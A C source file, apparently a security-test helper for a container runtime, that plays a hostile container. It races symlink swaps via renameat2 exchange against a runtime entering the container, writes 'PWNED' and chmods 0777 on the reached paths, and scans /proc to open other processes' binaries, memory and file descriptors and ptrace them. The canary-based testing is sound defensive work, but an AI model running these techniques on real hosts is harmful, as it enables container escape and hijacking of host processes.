/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The hostile twin: what a container, or one who shares its root or a volume with it, does to
 * whoever starts or enters it
 *
 * usage: twin swap DIR PATH=LINK[,LINK]...    outside: until killed, PATH below DIR is in turn
 * itself and a symbolic link to each LINK, exchanged by rename twin look PATH... inside: reads and
 * writes all that is at the paths; says "SEEN PATH" where a file or name begins with CANARY twin
 * prowl                           inside: until killed, tries to get at the program, the memory and
 * the files of every other process, and says "GOT WHAT" where that worked
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define LINKS_MAX   8
#define TARGETS_MAX 32
#define MARK        "CANARY"

static unsigned dice(unsigned sides)
{
	static unsigned state = 1;

	if (state == 1)
		state = (unsigned)getpid() ^ (unsigned)time(NULL);
	state = state * 1103515245 + 12345;
	return (state >> 16) % sides;
}

/* ---- outside ---- */

struct target {
	char path[256];
	char names[LINKS_MAX][300]; /* what it changes places with */
	unsigned n;
};

static void add_target(int dir_fd, struct target *t, const char *text)
{
	size_t len = strcspn(text, "=");
	char links[2048];

	snprintf(t->path, sizeof(t->path), "%.*s", (int)len, text);
	snprintf(links, sizeof(links), "%s", text + len + 1);
	for (char *link = strtok(links, ","); link && t->n < LINKS_MAX; link = strtok(NULL, ",")) {
		char name[300];

		snprintf(name, sizeof(name), "%.*s.twin%u", (int)len, text, t->n);
		strcpy(t->names[t->n++], name);
		unlinkat(dir_fd, name, 0);
		if (symlinkat(link, dir_fd, name) < 0) {
			perror(name);
			exit(2);
		}
	}
}

/* What leads to a target may just be a link itself: then there is nothing to exchange. */
static int exchange(int dir_fd, const struct target *t, const char *name)
{
	return (int)syscall(SYS_renameat2, dir_fd, t->path, dir_fd, name, RENAME_EXCHANGE);
}

/* There and back: mostly each is itself, else nobody would get past the first of them. */
static void blink(int dir_fd, const struct target *t)
{
	const char *name = t->names[dice(t->n)];

	if (exchange(dir_fd, t, name) < 0)
		return;
	if (dice(2))
		usleep(dice(8) ? dice(60) : dice(1500));
	/* By a path that may be swapped above it: until it works, or it would stay. */
	for (int tries = 0; tries < 1000 && exchange(dir_fd, t, name) < 0; tries++)
		usleep(10);
}

static int swap(int argc, char **argv)
{
	static struct target targets[TARGETS_MAX];
	int dir_fd = open(argv[0], O_PATH | O_DIRECTORY | O_CLOEXEC);
	unsigned n = 0;

	if (dir_fd < 0) {
		perror(argv[0]);
		return 2;
	}
	for (int i = 1; i < argc && n < TARGETS_MAX; i++)
		add_target(dir_fd, &targets[n++], argv[i]);
	puts("ready");
	fflush(stdout);
	for (;;) {
		/* One at a time, in bursts, with rests between them in which all is as it should
		 * be. */
		const struct target *t = &targets[dice(n)];

		for (unsigned left = dice(60); left > 0; left--) {
			blink(dir_fd, t);
			if (dice(2))
				usleep(dice(150));
		}
		usleep(dice(4000));
	}
}

/* ---- inside ---- */

static void look_at_directory(const char *path)
{
	DIR *dir = opendir(path);
	struct dirent *entry;
	char below[512];

	while (dir && (entry = readdir(dir)))
		if (strncmp(entry->d_name, MARK, strlen(MARK)) == 0)
			printf("SEEN %s/%s\n", path, entry->d_name);
	if (dir)
		closedir(dir);
	snprintf(below, sizeof(below), "%s/PWNED", path);
	close(open(below, O_WRONLY | O_CREAT | O_CLOEXEC, 0666));
	unlink(below);
}

static int look(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		char text[sizeof(MARK)] = { 0 };
		struct stat st;
		int fd;

		if (stat(argv[i], &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode)) {
			look_at_directory(argv[i]);
			continue;
		}
		fd = open(argv[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd >= 0 && read(fd, text, strlen(MARK)) > 0 && strcmp(text, MARK) == 0)
			printf("SEEN %s\n", argv[i]);
		close(fd);
		fd = open(argv[i], O_WRONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd >= 0 && write(fd, "PWNED\n", 6) == 6 && !S_ISCHR(st.st_mode))
			printf("WROTE %s\n", argv[i]);
		close(fd);
		chmod(argv[i], 0777);
	}
	puts("looked");
	return 0;
}

/* The programs that are inside: those may be had. */
static bool is_inside(const struct stat *st)
{
	static const char *const known[] = { "/bin/twin", "/bin/busybox" };
	struct stat ours;

	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		if (stat(known[i], &ours) == 0 && ours.st_dev == st->st_dev &&
		    ours.st_ino == st->st_ino)
			return true;
	return false;
}

static void got(const char *what, const char *pid, const char *more)
{
	printf("GOT %s %s %s\n", what, pid, more);
	fflush(stdout);
}

static void try_program(const char *pid)
{
	char path[64], again[64];
	struct stat st;
	int fd, out;

	snprintf(path, sizeof(path), "/proc/%.10s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) == 0 && !is_inside(&st)) {
		snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
		out = open(again, O_WRONLY | O_CLOEXEC);
		got(out < 0 ? "program" : "program-for-writing", pid, again);
		close(out);
	}
	close(fd);
}

/* Who runs inside has the standard streams, and no more. */
static void try_files(const char *pid)
{
	char path[64];
	DIR *dir;
	struct dirent *entry;

	snprintf(path, sizeof(path), "/proc/%.10s/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		char to[256];
		ssize_t n;

		if (entry->d_name[0] == '.' || atoi(entry->d_name) <= 2)
			continue;
		n = readlinkat(dirfd(dir), entry->d_name, to, sizeof(to) - 1);
		if (n < 0)
			continue;
		to[n] = '\0';
		got("file", pid, to);
	}
	if (dir)
		closedir(dir);
}

static void try_memory(const char *pid)
{
	char path[64];
	struct stat st;
	int fd;

	/* One that runs a program from inside is the container's own: fair game. */
	snprintf(path, sizeof(path), "/proc/%.10s/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return;
	snprintf(path, sizeof(path), "/proc/%.10s/exe", pid);
	if (stat(path, &st) == 0 && !is_inside(&st))
		got("memory", pid, "");
	close(fd);
}

static void try_trace(const char *pid)
{
	char path[64];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%.10s/exe", pid);
	if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) < 0)
		return;
	if (stat(path, &st) == 0 && !is_inside(&st))
		got("trace", pid, "");
	if (ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0) == 0 && waitpid(atoi(pid), NULL, __WALL) > 0)
		ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
}

__attribute__((noreturn)) static void prowl(void)
{
	char own[16];

	snprintf(own, sizeof(own), "%d", getpid());
	puts("prowls");
	fflush(stdout);
	for (;;) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9' ||
			    strcmp(entry->d_name, own) == 0)
				continue;
			try_program(entry->d_name);
			try_files(entry->d_name);
			try_memory(entry->d_name);
			if (dice(4) == 0)
				try_trace(entry->d_name);
		}
		if (dir)
			closedir(dir);
	}
}

int main(int argc, char **argv)
{
	if (argc > 3 && strcmp(argv[1], "swap") == 0)
		return swap(argc - 2, argv + 2);
	if (argc > 1 && strcmp(argv[1], "look") == 0)
		return look(argc - 2, argv + 2);
	if (argc == 2 && strcmp(argv[1], "prowl") == 0)
		prowl();
	if (argc == 2 && strcmp(argv[1], "nothing") == 0)
		return 0;
	fputs("usage: twin swap DIR PATH=LINK... | look PATH... | prowl | nothing\n", stderr);
	return 2;
}
